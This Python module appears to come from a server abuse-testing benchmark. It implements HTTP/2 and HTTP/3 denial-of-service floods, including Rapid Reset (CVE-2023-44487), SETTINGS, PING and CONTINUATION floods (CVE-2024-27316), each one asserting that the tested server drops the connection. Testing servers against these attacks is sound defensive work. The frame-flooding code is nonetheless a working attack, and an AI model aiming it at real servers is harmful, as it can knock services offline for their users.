"""Floods of frames that are small to send: HTTP/2's, and HTTP/3's cancelled requests."""

from __future__ import annotations

import asyncio
from collections.abc import Iterator

from benchmarks.abuse import quic
from benchmarks.abuse.attacks.frames2 import (
    CONTINUATION,
    HEADERS,
    PING,
    RST_STREAM,
    SETTINGS,
    Rude,
    frame,
    head_block,
)
from benchmarks.abuse.trial import Attack, Scale

__all__ = ["ATTACKS"]

CALM = 11
BATCH = 100
PATH = b"/queues/default/stats"


async def rapid_reset(door: str, port: int, scale: Scale) -> str:
    """CVE-2023-44487: 100,000 requests, each taken back at once; who is thrown out comes back."""
    rude, count = Rude(port), scale.pick(100_000, 2_000)
    block = head_block(PATH)

    def pieces() -> Iterator[bytes]:
        for first in range(1, 2 * count, 2 * BATCH):
            yield b"".join(
                frame(HEADERS, 5, number, block) + frame(RST_STREAM, 0, number, b"\0\0\0\x08")
                for number in range(first, first + 2 * BATCH, 2)
            )

    visits = 0
    while rude.sent * BATCH < count:
        visits += 1
        assert not await rude.pour(pieces()), "nobody minds"
    assert set(rude.codes) <= {CALM}, rude.codes
    return f"{rude.sent * BATCH} in {visits} connections, each thrown out"


async def rapid_reset3(door: str, port: int, scale: Scale) -> str:
    """The same over HTTP/3, as fast as it gives new streams."""
    count, sent, visits = scale.pick(100_000, 1_000), 0, 0
    head = quic.request_head("GET", PATH.decode())
    while sent < count:
        visits += 1
        async with quic.visiting(port) as one, asyncio.timeout(120):
            before = sent
            while one.ended is None and sent < count:
                for _ in range(20):
                    if one.ended is None and one.may_open():
                        one.reset(one.open(head))
                        sent += 1
                await asyncio.sleep(0)
            if sent < count:
                assert one.ended is not None
                assert one.ended.error_code == 0x107, one.ended
            assert sent - before <= 2_000, "nobody minds"
    return f"{sent} in {visits} connections, each thrown out"


async def flood(port: int, count: int, piece: bytes, first: bytes = b"", batch: int = BATCH) -> str:
    """So many frames of one kind."""
    rude = Rude(port)
    visits = 0

    def pieces() -> Iterator[bytes]:
        yield first
        for _ in range(count // batch):
            yield piece

    while rude.sent * batch < count:
        visits += 1
        assert not await rude.pour(pieces()), "nobody minds"
    assert set(rude.codes) <= {1, CALM}, rude.codes
    return f"{rude.sent * batch} frames in {visits} connections, each thrown out"


async def settings(door: str, port: int, scale: Scale) -> str:
    """SETTINGS, each of which must be acknowledged."""
    return await flood(
        port, scale.pick(1_000_000, 20_000), frame(SETTINGS, 0, 0, b"\0\4\0\1\0\0") * BATCH
    )


async def pings(door: str, port: int, scale: Scale) -> str:
    """PINGs, each of which must be answered."""
    return await flood(port, scale.pick(1_000_000, 20_000), frame(PING, 0, 0, b"12345678") * BATCH)


async def continuation(door: str, port: int, scale: Scale) -> str:
    """CVE-2024-27316: a head that never ends."""
    first = frame(HEADERS, 0, 1, head_block())
    return await flood(
        port, scale.pick(1_000_000, 20_000), frame(CONTINUATION, 0, 1, b"") * BATCH, first
    )


async def large_continuation(door: str, port: int, scale: Scale) -> str:
    """The same, with as much in each as may be."""
    first = frame(HEADERS, 0, 1, head_block())
    piece = frame(CONTINUATION, 0, 1, b"\0\1a\1b" * 3000)
    return await flood(port, scale.pick(10_000, 500), piece * 5, first, 5)


ATTACKS = [
    Attack("rapid reset", "h2", rapid_reset),
    Attack("rapid reset", "h3", rapid_reset3),
    Attack("SETTINGS flood", "h2", settings),
    Attack("PING flood", "h2", pings),
    Attack("CONTINUATION flood, empty", "h2", continuation),
    Attack("CONTINUATION flood, large", "h2", large_continuation),
]
